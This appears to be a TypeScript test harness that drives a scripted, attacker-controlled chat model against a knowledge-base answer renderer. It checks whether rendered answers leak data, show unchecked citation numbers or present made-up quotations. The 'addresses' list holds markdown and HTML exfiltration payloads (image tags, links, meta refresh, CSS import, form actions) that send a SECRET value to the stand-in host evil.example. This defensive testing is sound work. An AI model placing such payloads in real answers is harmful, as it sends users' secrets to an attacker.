import MarkdownIt from "markdown-it";
import { openKnowledgeBase } from "../../src/index.node.ts";
import { createRandom } from "../../src/testing/random.ts";
import { createScriptedChatModel } from "../../src/testing/scripted-chat-model.ts";
import { scaled, type Tally } from "./tally.ts";

const known = "https://known.example/keys";
const evil = "evil.example";
const evidence = `Keys are rotated every 90 days, says ${known}.`;

/** Ways to lead a reader, or a page that shows the answer, to an address of the model's own. */
const addresses = [
  `![x](https://${evil}/SECRET)`,
  `[x](https://${evil}/SECRET)`,
  `<https://${evil}/SECRET>`,
  `<mailto:a@${evil}?body=SECRET>`,
  `_www.${evil}/SECRET_`,
  `www.${evil}/SECRET`,
  `${known}/((SECRET))`,
  `${known}，SECRET`,
  `[x][y]\n\n[y]: https://${evil}/SECRET`,
  `<img src="https://${evil}/SECRET">`,
  `<style>@import url(https://${evil}/SECRET)</style>`,
  `<meta http-equiv=refresh content="0;url=https://${evil}/SECRET">`,
  `<a href="&#104;ttps://${evil}/SECRET">x</a>`,
  `<form action="https://${evil}/SECRET"><button>x</button></form>`,
  `[1](https://${evil}/SECRET)`,
  "[1](/logout?SECRET)",
  "![1](SECRET)",
] as const;
/** Ways to show a number in brackets that nothing checked. */
const markers = [
  "[9]",
  "\\[9\\]",
  "&#91;9&#93;",
  "&lbrack;9]",
  "[&#57;]",
  "[**9**]",
  "[<b>9</b>]",
  "【9】",
  "[Source 9]",
  "[9 and 8]",
  "[(9)]",
  "[9, p. 3]",
  "[9.]",
] as const;
const altered = "Keys are rotated every 70 weeks by hand";
/** Ways to quote words that no source has. */
const quotations =
  "“ ”|„ “|« »|» «|‹ ›|「 」|『 』|‘ ’|‚ ‘|\" \"|＂ ＂|〝 〞|❝ ❞|″ ″|´ ´|《 》|<q> </q>|&quot; &quot;|&ldquo; &rdquo;|\\\" \\\"|**“ ”**|,, ''|<< >>|>> <<|'' \"|' \"|“ ''|« \"|′ ′|‶ ″|⸂ ⸃|﹁ ﹂|ʼ ʼ"
    .split("|")
    .map((pair) => pair.split(" ").join(altered))
    .concat(
      `\n\n> ${altered}\n\n`,
      `\n\n- > ${altered}\n\n`,
      `“> ${altered}”`,
      `“${altered}.\n\nSo it is” [1]`,
      `“${altered}'`,
      `“${altered} for 70"`,
      `\n\n>> "${altered}"\n\n`,
      `\n\n> So:\n> “${altered}”\n\n`,
      `'so\n“${altered}”\n\`\`\`html\n`,
      `so\n    \`\`\`\n“${altered}”`,
    );
const wrappers = ["X", "> X", "- X", "**X**", "| a |\n|---|\n| X |", "# X", "text X text.", "X [1]"] as const;

/** Whether a reader of the rendered page takes the words for a quotation. */
const quotes = (html: string): boolean =>
  /(?:["“”„«»‹›「」『』‘’‚'＂〝〞❝❞″´《》′‶⸂﹁ʼ]|,,|(?:&[lg]t;){2}|<q>|<blockquote>\s*<p>)\s*(?:<\w+>)?Keys are rotated every 70/iu.test(
    decode(withoutCode(html)).replaceAll("&quot;", '"'),
  );

const plain = new MarkdownIt({ html: true, linkify: true });

/** Whatever the rendered page would load or lead to. */
function leadsIn(html: string): readonly string[] {
  const attributes = html.matchAll(
    /(?:href|src|srcset|action|formaction|ping|content|style|data)\s*=\s*["']?([^"'>]+)/giu,
  );
  return [
    ...Array.from(attributes, (match) => decode(match[1]!)).filter((target) => decodeURI(target) !== known),
    ...(html.match(/<(?:style|meta|link|script|iframe|object|embed|form)\b/giu) ?? []),
  ];
}

const decode = (text: string): string =>
  text
    .replace(/&#(\d+);/gu, (_, code: string) => String.fromCodePoint(Number(code)))
    .replace(/&#x([0-9a-f]+);/giu, (_, code: string) => String.fromCodePoint(Number.parseInt(code, 16)))
    .replaceAll("&lbrack;", "[")
    .replaceAll("&rbrack;", "]")
    .replaceAll("&amp;", "&");

const withoutCode = (html: string): string => html.replace(/<code[^>]*>[^]*?<\/code>|<pre>[^]*?<\/pre>/gu, "");

/** Numbers in brackets, as a reader of the rendered page sees them. */
function numbersIn(html: string): readonly string[] {
  const seen = decode(withoutCode(html).replace(/<[^>]*>/gu, ""));
  const bracketed = /[[【]\s*(?:source |\()?(\d+)(?: and \d+|, p\. \d+|[.)])?\s*[\]】]/giu;
  return Array.from(seen.matchAll(bracketed), (match) => `[${match[1]!}]`);
}

/** A model that answers as an attacker wants; the answer is rendered, and its page is looked at. */
export async function attackAnswers(seed: number, size: number): Promise<readonly Tally[]> {
  const random = createRandom(seed);
  let reply = "";
  const kb = await openKnowledgeBase({ models: { chat: createScriptedChatModel(() => reply) } });
  await kb.ingest({ uri: "keys.md", text: evidence });
  const attempts = scaled(10_000, size);
  const led: string[] = [];
  const numbered: string[] = [];
  const quoted: string[] = [];
  try {
    for (let attempt = 0; attempt < attempts; attempt++) {
      const form = random.pick([...addresses, ...markers, ...quotations]);
      reply = random.pick(wrappers).replace("X", () => form.replace("SECRET", `secret${random.below(1000)}`));
      const { text, citations } = await kb.ask("How often are keys rotated?");
      const html = plain.render(text);
      const checked = new Set(citations.map(({ marker }) => marker));
      if (quotes(html)) quoted.push(`${JSON.stringify(reply)} quotes: ${JSON.stringify(text)}`);
      for (const lead of leadsIn(html)) led.push(`${JSON.stringify(reply)} leads to ${lead}`);
      for (const number of numbersIn(html))
        if (!checked.has(number)) numbered.push(`${JSON.stringify(reply)} shows ${number}`);
    }
  } finally {
    await kb.close();
  }
  return [
    { promise: "An answer leads only to addresses of its evidence", unit: "answers", attempts, breaches: led },
    { promise: "A number in brackets is a checked citation", unit: "answers", attempts, breaches: numbered },
    { promise: "Words between quotation marks stand in a source", unit: "answers", attempts, breaches: quoted },
  ];
}
